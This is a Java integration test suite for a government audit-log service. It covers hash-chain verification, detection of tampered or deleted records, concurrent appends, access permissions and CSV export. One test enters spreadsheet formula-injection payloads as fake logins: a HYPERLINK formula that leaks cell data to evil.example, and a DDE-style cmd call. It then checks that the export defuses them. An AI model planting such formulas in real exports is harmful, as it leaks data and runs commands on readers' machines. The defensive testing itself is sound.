package cn.gov.laoshan.district.itests.audit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicReference;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import cn.gov.laoshan.district.api.security.AccessDeniedException;
import cn.gov.laoshan.district.api.security.CurrentUser;
import cn.gov.laoshan.district.audit.AuditModule;
import cn.gov.laoshan.district.audit.domain.AuditEntry;
import cn.gov.laoshan.district.audit.domain.AuditFilter;
import cn.gov.laoshan.district.audit.domain.ChainHash;
import cn.gov.laoshan.district.audit.domain.Verification;
import cn.gov.laoshan.district.audit.domain.Verification.Problem;
import cn.gov.laoshan.district.audit.service.AuditQuery;
import cn.gov.laoshan.district.audit.service.AuditService;
import cn.gov.laoshan.district.audit.service.AuditStore;
import cn.gov.laoshan.district.audit.service.CallerContext;
import cn.gov.laoshan.district.core.db.Database;
import cn.gov.laoshan.district.testkit.TestDatabase;
import cn.gov.laoshan.district.testdoubles.TestAccess;

/** The audit chain on every database this machine has (Derby always, PostgreSQL where configured). */
class AuditChainIT {

    private static final CurrentUser AUDITOR = new CurrentUser("auditor", "审计员", "platform", null, false);
    private static final Set<String> ALL = Set.of(AuditQuery.VIEW, AuditQuery.VERIFY, AuditQuery.EXPORT);

    static List<TestDatabase> databases() throws Exception {
        return TestDatabase.available();
    }

    private static AuditService service(Database database, TestAccess access, Clock clock) {
        AuditModule.migrate(database);
        return new AuditService(new AuditStore(database.dataSource(Database.PLATFORM_SCHEMA)),
                new CallerContext(() -> Optional.of(access)), clock);
    }

    private static void sql(Database database, String statement, Object... parameters) {
        database.jdbi(Database.PLATFORM_SCHEMA).useHandle(h -> h.execute(statement, parameters));
    }

    private static void appendSome(AuditService audit, int count) {
        for (int i = 1; i <= count; i++) {
            audit.record("mediation", "case.update", "MediationCase", "崂调〔2026〕" + i + "号",
                    "{\"status\":\"受理\",\"n\":" + i + "}", "{\"status\":\"调解中\",\"n\":" + i + "}");
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("databases")
    void appendedRecordsVerifyAndCarryWhoWhenAndWhat(TestDatabase test) throws Exception {
        try (test; Database database = Database.open(test.settings())) {
            TestAccess access = new TestAccess().as(AUDITOR, ALL);
            Clock clock = Clock.fixed(Instant.parse("2026-11-27T02:00:00.123456Z"), ZoneOffset.UTC);
            AuditService audit = service(database, access, clock);

            assertTrue(audit.verify().ok(), "an empty log verifies");
            appendSome(audit, 30);
            audit.record("identity", "user.update", "user", "lisi", "{\"login\":\"lisi\",\"password\":\"old\"}",
                    "{\"login\":\"lisi\",\"newPassword\":\"hunter22\"}");

            Verification result = audit.verify();
            assertTrue(result.ok(), result.detail());
            // every verification is itself recorded after its walk: the first one is record 1
            assertEquals(32, result.checked());

            AuditEntry stored = audit.find(new AuditFilter(null, "identity", null, null, null), 0, 10).get(0);
            assertEquals(32, stored.id());
            assertEquals("auditor", stored.actorLogin());
            assertEquals("审计员", stored.actorName());
            assertNull(stored.clientAddress(), "no UI request, no address");
            assertEquals(Instant.parse("2026-11-27T02:00:00.123Z"), stored.occurredAt());
            assertEquals("{\"login\":\"lisi\",\"password\":\"***\"}", stored.before());
            assertEquals("{\"login\":\"lisi\",\"newPassword\":\"***\"}", stored.after());
            assertFalse(database.jdbi("platform").withHandle(h -> h.createQuery(
                    "select count(*) from audit_record where after_state like '%hunter22%'").mapTo(Long.class).one()) > 0);
            AuditEntry first = audit.find(AuditFilter.ALL, false, 0, 1).get(0);
            assertEquals(1, first.id());
            assertEquals(ChainHash.GENESIS, first.previousHash());
            assertEquals(first.hash(), audit.find(AuditFilter.ALL, false, 1, 1).get(0).previousHash());
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("databases")
    void changingTheAfterTextOfARecordInTheDatabaseIsNamed(TestDatabase test) throws Exception {
        try (test; Database database = Database.open(test.settings())) {
            AuditService audit = service(database, new TestAccess().as(AUDITOR, ALL), Clock.systemUTC());
            appendSome(audit, 40);
            sql(database, "update audit_record set after_state = ? where id = ?", "{\"status\":\"已结案\",\"n\":17}", 17);

            Verification result = audit.verify();
            assertFalse(result.ok());
            assertEquals(Problem.HASH_MISMATCH, result.problem());
            assertEquals(17L, result.recordId());
            assertEquals(17, result.checked());
            assertTrue(result.detail().contains("record 17"), result.detail());
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("databases")
    void aRecordChangedAndRehashedBreaksTheLinkOfTheNextOne(TestDatabase test) throws Exception {
        try (test; Database database = Database.open(test.settings())) {
            AuditService audit = service(database, new TestAccess().as(AUDITOR, ALL), Clock.systemUTC());
            appendSome(audit, 20);
            AuditEntry original = audit.get(9).orElseThrow();
            AuditEntry forged = new AuditEntry(0, original.occurredAt(), original.actorLogin(), original.actorName(),
                    original.clientAddress(), original.source(), original.action(), original.objectType(),
                    original.objectId(), original.before(), "{\"status\":\"撤回\"}", null, null)
                    .chained(9, original.previousHash());
            sql(database, "update audit_record set after_state = ?, hash = ? where id = 9", forged.after(), forged.hash());

            Verification result = audit.verify();
            assertEquals(Problem.BROKEN_LINK, result.problem());
            assertEquals(10L, result.recordId(), result.detail());
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("databases")
    void aDeletedRecordIsNamedAsAGap(TestDatabase test) throws Exception {
        try (test; Database database = Database.open(test.settings())) {
            AuditService audit = service(database, new TestAccess().as(AUDITOR, ALL), Clock.systemUTC());
            appendSome(audit, 25);
            sql(database, "delete from audit_record where id = 12");

            Verification result = audit.verify();
            assertEquals(Problem.GAP, result.problem());
            assertEquals(12L, result.recordId());
            assertTrue(result.detail().contains("record 12 is missing"), result.detail());
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("databases")
    void deletingTheNewestRecordsIsNamedAgainstTheChainHead(TestDatabase test) throws Exception {
        try (test; Database database = Database.open(test.settings())) {
            AuditService audit = service(database, new TestAccess().as(AUDITOR, ALL), Clock.systemUTC());
            appendSome(audit, 10);
            sql(database, "delete from audit_record where id >= 9");

            Verification result = audit.verify();
            assertEquals(Problem.TRUNCATED, result.problem());
            assertEquals(9L, result.recordId(), result.detail());
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("databases")
    void concurrentAppendsFromThreadsAndFromTwoNodesKeepOneChain(TestDatabase test) throws Exception {
        try (test; Database node1 = Database.open(test.settings()); Database node2 = Database.open(test.settings())) {
            TestAccess access = new TestAccess().as(AUDITOR, ALL);
            AuditService one = service(node1, access, Clock.systemUTC());
            // a second node: its own pool and its own JVM lock, the same tables
            AuditService two = new AuditService(new AuditStore(node2.dataSource(Database.PLATFORM_SCHEMA)),
                    new CallerContext(() -> Optional.of(access)), Clock.systemUTC());
            int threads = 8;
            int each = 40;
            ExecutorService pool = Executors.newFixedThreadPool(threads);
            List<Future<?>> done = new ArrayList<>();
            for (int t = 0; t < threads; t++) {
                AuditService node = t % 2 == 0 ? one : two;
                String source = "node" + (t % 2 + 1);
                int thread = t;
                done.add(pool.submit(() -> {
                    for (int i = 0; i < each; i++) {
                        node.record(source, "load.append", "thread", String.valueOf(thread), null, "{\"i\":" + i + "}");
                    }
                }));
            }
            for (Future<?> future : done) {
                future.get();
            }
            pool.shutdown();

            assertEquals(threads * each, one.count(AuditFilter.ALL));
            assertEquals(threads * each / 2, one.count(new AuditFilter(null, "node2", null, null, null)));
            Verification result = one.verify();
            assertTrue(result.ok(), result.detail());
            assertEquals(threads * each, result.checked());
            assertTrue(two.verify().ok());
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("databases")
    void aHundredThousandRecordsVerifyInBatches(TestDatabase test) throws Exception {
        try (test; Database database = Database.open(test.settings())) {
            AuditService audit = service(database, new TestAccess().as(AUDITOR, ALL), Clock.systemUTC());
            AuditStore store = new AuditStore(database.dataSource(Database.PLATFORM_SCHEMA));
            long begin = System.nanoTime();
            for (int batch = 0; batch < 100; batch++) {
                List<AuditEntry> records = new ArrayList<>(1000);
                for (int i = 0; i < 1000; i++) {
                    int n = batch * 1000 + i;
                    records.add(audit.entry(AUDITOR, "10.1.2." + (n % 250), "market", "licence.renew", "FoodLicence",
                            "JY137021200" + n, "{\"validUntil\":\"2026-12-31\",\"holder\":\"崂山区某餐饮店\"}",
                            "{\"validUntil\":\"2031-12-31\",\"holder\":\"崂山区某餐饮店\"}"));
                }
                store.append(records);
            }
            long loadMs = (System.nanoTime() - begin) / 1_000_000;

            Verification ok = store.verify();
            assertTrue(ok.ok(), ok.detail());
            assertEquals(100_000, ok.checked());
            System.out.printf("[audit] %s: 100,000 records loaded in %,d ms (batches of 1,000); verified in %,d ms%n",
                    test, loadMs, ok.took().toMillis());

            sql(database, "update audit_record set object_id = 'JY1370212009999X' where id = 99999");
            Verification bad = store.verify();
            assertEquals(Problem.HASH_MISMATCH, bad.problem());
            assertEquals(99_999L, bad.recordId());
            System.out.printf("[audit] %s: tampered record 99,999 found in %,d ms%n", test, bad.took().toMillis());
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("databases")
    void theViewerFiltersPagesCountsAndExports(TestDatabase test) throws Exception {
        try (test; Database database = Database.open(test.settings())) {
            TestAccess access = new TestAccess().as(AUDITOR, ALL);
            AtomicReference<Instant> now = new AtomicReference<>(Instant.parse("2026-11-20T01:00:00Z"));
            Clock clock = new Clock() {
                @Override
                public ZoneOffset getZone() {
                    return ZoneOffset.UTC;
                }

                @Override
                public Clock withZone(java.time.ZoneId zone) {
                    return this;
                }

                @Override
                public Instant instant() {
                    return now.get();
                }
            };
            AuditService audit = service(database, access, clock);
            audit.record("identity", "sign-in.success", "user", "zhangsan", null, null);
            now.set(Instant.parse("2026-11-21T01:00:00Z"));
            access.as(new CurrentUser("zhangsan", "张三", "justice", null, false), ALL);
            audit.record("mediation", "case.register", "MediationCase", "崂调〔2026〕0001号", null,
                    "{\"type\":\"劳动争议\",\"note\":\"含逗号, \\\"引号\\\"\"}");
            now.set(Instant.parse("2026-11-22T01:00:00Z"));
            audit.record("mediation", "case.accept", "MediationCase", "崂调〔2026〕0001号", null, null);
            audit.record("identity", "sign-in.failed", "user", "nobody_", null, null);

            assertEquals(4, audit.count(AuditFilter.ALL));
            assertEquals(3, audit.count(new AuditFilter("张三", null, null, null, null)));
            assertEquals(3, audit.count(new AuditFilter("ZHANG", null, null, null, null)));
            assertEquals(0, audit.count(new AuditFilter("%", null, null, null, null)), "like wildcards are literal");
            assertEquals(2, audit.count(new AuditFilter(null, "mediation", "case.", null, null)));
            assertEquals(2, audit.count(new AuditFilter(null, null, "sign-in", null, null)));
            assertEquals(1, audit.count(new AuditFilter(null, null, null, Instant.parse("2026-11-21T00:00:00Z"),
                    Instant.parse("2026-11-22T01:00:00Z"))), "range is [from, to)");
            List<AuditEntry> page = audit.find(AuditFilter.ALL, 1, 2);
            assertEquals(List.of(3L, 2L), page.stream().map(AuditEntry::id).toList(), "newest first, offset 1, 2 rows");
            assertEquals(List.of("identity", "mediation"), audit.sources());

            ByteArrayOutputStream csv = new ByteArrayOutputStream();
            long written = audit.export(new AuditFilter(null, "mediation", null, null, null), Locale.SIMPLIFIED_CHINESE)
                    .writeTo(csv);
            assertEquals(2, written);
            byte[] bytes = csv.toByteArray();
            assertEquals((byte) 0xEF, bytes[0]);
            assertEquals((byte) 0xBB, bytes[1]);
            assertEquals((byte) 0xBF, bytes[2]);
            String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
            String[] lines = text.split("\r\n");
            assertTrue(lines[0].startsWith("序号,时间（北京时间）,操作人账号,操作人姓名"), lines[0]);
            assertTrue(lines[1].startsWith("3,2026-11-22 09:00:00.000,zhangsan,张三,,mediation,case.accept"), lines[1]);
            assertTrue(text.contains("\"{\"\"type\"\":\"\"劳动争议\"\""), text);
            // the export itself is audited
            assertEquals(1, audit.count(new AuditFilter(null, "audit", "audit.export", null, null)));
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("databases")
    void aTypedFormulaIsExportedAsTextThatNoSpreadsheetRuns(TestDatabase test) throws Exception {
        try (test; Database database = Database.open(test.settings())) {
            TestAccess access = new TestAccess().as(AUDITOR, ALL);
            AuditService audit = service(database, access, Clock.systemUTC());
            // what a stranger types as the login of a failed sign-in lands in the object id
            String typed = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")";
            audit.record("identity", "sign-in.failed", "User", typed, null, "{\"detail\":\"unknown login\"}");
            audit.record("identity", "sign-in.failed", "User", "@SUM(1+1)*cmd|' /C calc'!A0", null, null);
            audit.record("identity", "sign-in.failed", "User", "+86 532 8888 0000", null, "-1+1");
            audit.record("identity", "sign-in.failed", "User", "zhanghua", null, null);

            ByteArrayOutputStream out = new ByteArrayOutputStream();
            audit.export(new AuditFilter(null, "identity", null, null, null), Locale.ENGLISH).writeTo(out);
            String text = new String(out.toByteArray(), StandardCharsets.UTF_8).substring(1);
            List<org.apache.commons.csv.CSVRecord> rows;
            try (var parser = org.apache.commons.csv.CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true)
                    .get().parse(new java.io.StringReader(text))) {
                rows = parser.getRecords();
            }
            assertEquals(4, rows.size());
            List<String> objectIds = rows.stream().map(r -> r.get(8)).toList();
            // newest first
            assertEquals(List.of("zhanghua", "'+86 532 8888 0000", "'@SUM(1+1)*cmd|' /C calc'!A0", "'" + typed),
                    objectIds);
            assertEquals("'-1+1", rows.get(1).get(10));
            for (org.apache.commons.csv.CSVRecord row : rows) {
                for (String cell : row) {
                    assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a cell that runs: " + cell);
                }
                assertTrue(row.get(0).matches("\\d+"), "the id is a plain number: " + row.get(0));
            }
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("databases")
    void readingVerifyingAndExportingNeedTheirPermissionsWritingDoesNot(TestDatabase test) throws Exception {
        try (test; Database database = Database.open(test.settings())) {
            TestAccess access = new TestAccess().as(new CurrentUser("staff", "工作人员", "justice", null, false), Set.of());
            AuditService audit = service(database, access, Clock.systemUTC());
            audit.record("mediation", "case.register", null, null, null, null);
            assertThrows(AccessDeniedException.class, () -> audit.find(AuditFilter.ALL, 0, 10));
            assertThrows(AccessDeniedException.class, () -> audit.count(AuditFilter.ALL));
            assertThrows(AccessDeniedException.class, audit::verify);
            assertThrows(AccessDeniedException.class, () -> audit.export(AuditFilter.ALL, Locale.ENGLISH));
            assertThrows(IllegalArgumentException.class, () -> audit.record("Bad Source", "x", null, null, null, null));

            access.as(new CurrentUser("viewer", "查阅人", "platform", null, false), Set.of(AuditQuery.VIEW));
            assertEquals(1, audit.count(AuditFilter.ALL));
            assertThrows(AccessDeniedException.class, audit::verify);
        }
    }
}
